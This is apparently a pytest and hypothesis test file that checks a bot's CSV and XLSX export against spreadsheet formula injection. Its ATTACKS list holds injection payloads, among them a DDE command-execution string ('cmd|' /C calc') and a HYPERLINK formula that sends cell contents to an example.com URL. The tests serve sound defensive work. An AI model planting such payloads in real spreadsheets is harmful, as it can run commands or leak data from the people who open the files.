"""Tables as files: what was written is read back, and nothing in them is a formula."""

from __future__ import annotations

import csv
import tempfile
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.views.extract import Cell
from bot.workflow.sheets import LONGEST, CsvFile, XlsxFile, guarded, sound, unguarded

ATTACKS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1+1",
    "\u3000=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://example.com?"&A1)', "-2+3+cmd|' /C calc'!A0", "'=1+1",
]  # fmt: skip

texts = st.text(max_size=40) | st.sampled_from(ATTACKS)
amounts = st.decimals(
    min_value=Decimal("-9999999999"), max_value=Decimal("9999999999"), places=2, allow_nan=False
)  # fmt: skip
cells: st.SearchStrategy[Cell] = st.one_of(
    texts, amounts, st.integers(-(10**9), 10**9), st.dates(date(1990, 1, 1), date(2100, 1, 1)), st.none()
)
rows = st.lists(st.lists(cells, min_size=1, max_size=5), max_size=6)


def in_csv(table: Sequence[Sequence[Cell]]) -> list[list[str]]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "table.csv"
        sheet = CsvFile(path, "lines", ["one"])
        for row in table:
            sheet.write("lines", row)
        sheet.close()
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel shows Chinese by it
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.reader(file))[1:]


def in_xlsx(table: Sequence[Sequence[Cell]]) -> list[list[object]]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "table.xlsx"
        sheet = XlsxFile(path, {"lines": ("Lines", ["one"])})
        for row in table:
            sheet.write("lines", row)
        sheet.close()
        book = load_workbook(path)
        for made in book["Lines"].iter_rows():
            for cell in made:
                assert cell.data_type != "f"
        return [list(row) for row in book["Lines"].iter_rows(min_row=2, values_only=True)]


@given(rows)
def test_what_was_written_to_csv_is_read_back(table: list[list[Cell]]) -> None:
    read = in_csv(table)
    assert len(read) == len(table)
    for got, given_ in zip(read, table, strict=True):
        for text, cell in zip(got, given_, strict=True):
            if isinstance(cell, str):
                assert unguarded(text) == sound(cell)
            elif isinstance(cell, Decimal):
                assert Decimal(text) == cell
            else:
                assert text == ("" if cell is None else str(cell))


@given(rows)
def test_what_was_written_to_xlsx_is_read_back(table: list[list[Cell]]) -> None:
    read = in_xlsx(table)
    for got, given_ in zip(read, table, strict=False):
        for held, cell in zip(got, given_, strict=False):
            if isinstance(cell, str):
                assert (held or "") == sound(cell)
            elif isinstance(cell, Decimal):
                assert isinstance(held, int | float)
                assert Decimal(str(held)) == cell
            elif isinstance(cell, date):
                assert str(held) == f"{cell.isoformat()} 00:00:00"
            else:
                assert held == cell


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_is_a_formula(attack: str) -> None:
    ((text,),) = in_csv([[attack]])
    assert text.startswith("'")
    ((held,),) = in_xlsx([[attack]])  # looks at every cell: none is a formula
    assert held == sound(attack)


def test_a_negative_amount_stays_a_number() -> None:
    assert in_csv([[Decimal("-88.50"), -3]]) == [["-88.50", "-3"]]
    assert in_xlsx([[Decimal("-88.50"), -3]]) == [[-88.5, -3]]


def test_a_long_number_stays_a_text_where_a_cell_would_round_it() -> None:
    assert in_xlsx([["25312000000012345678", Decimal("12345678901234.5678")]]) == [
        ["25312000000012345678", "12345678901234.5678"]
    ]


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    ((held,),) = in_xlsx([["长" * (LONGEST + 1)]])
    assert held == "长" * (LONGEST - 1) + "…"


def test_a_guarded_text_is_guarded_once_more() -> None:
    assert unguarded(guarded("'=1")) == "'=1"
